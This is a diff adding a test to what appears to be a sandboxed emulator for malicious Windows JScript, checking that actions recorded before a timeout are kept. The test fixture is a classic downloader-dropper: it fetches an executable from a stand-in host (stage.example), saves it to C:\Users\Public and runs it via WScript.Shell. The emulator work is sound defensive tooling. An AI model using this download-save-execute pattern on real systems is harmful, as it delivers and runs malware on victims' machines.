@@ -33,6 +33,22 @@ describe('emulateInChild', () => {
     expect(next.records.map((x) => [x.api, ...x.args])).toEqual([['WScript.Echo', 'after']]);
   }, 20_000);
 
+  it('keeps what a run did before its isolate got stuck: the download, the dropped file and the command it started', async () => {
+    const code = String.raw`
+      var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://stage.example/p.exe", false); x.send();
+      var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(x.responseBody); s.SaveToFile("C:\\Users\\Public\\p.exe", 2);
+      new ActiveXObject("WScript.Shell").Run("C:\\Users\\Public\\p.exe");
+      var m = new Map(); for (var i = 0; i < 1e8; i++) m.set("key" + i, i);`;
+    const stuck = await emulateInChild([{ code, label: 'stall.js' }], options({ timeoutMs: 4000 }));
+    expect(stuck.outcome).toBe('timeout');
+    expect(stuck.message).toMatch(/its process was killed; the \d+ action\(s\) recorded before are kept$/);
+    expect(stuck.records.map((r) => r.api)).toEqual(expect.arrayContaining(['MSXML2.XMLHTTP.open', 'ADODB.Stream.SaveToFile', 'WScript.Shell.Run']));
+    expect(stuck.records.find((r) => r.api === 'WScript.Shell.Run')!.args[0]).toBe('C:\\Users\\Public\\p.exe');
+    expect(stuck.totalRecords).toBe(stuck.records.length);
+    expect(stuck.drops.map((d) => [d.path, d.source])).toEqual([['C:\\Users\\Public\\p.exe', 'http://stage.example/p.exe']]);
+    expect(Buffer.from(stuck.drops[0].data).toString('latin1')).toBe(FAKE_PE);
+  }, 20_000);
+
   it('an aborted analysis ends its emulation at once and kills its process; idle processes do not pile up', async () => {
     const controller = new AbortController();
     setTimeout(() => controller.abort(), 300);
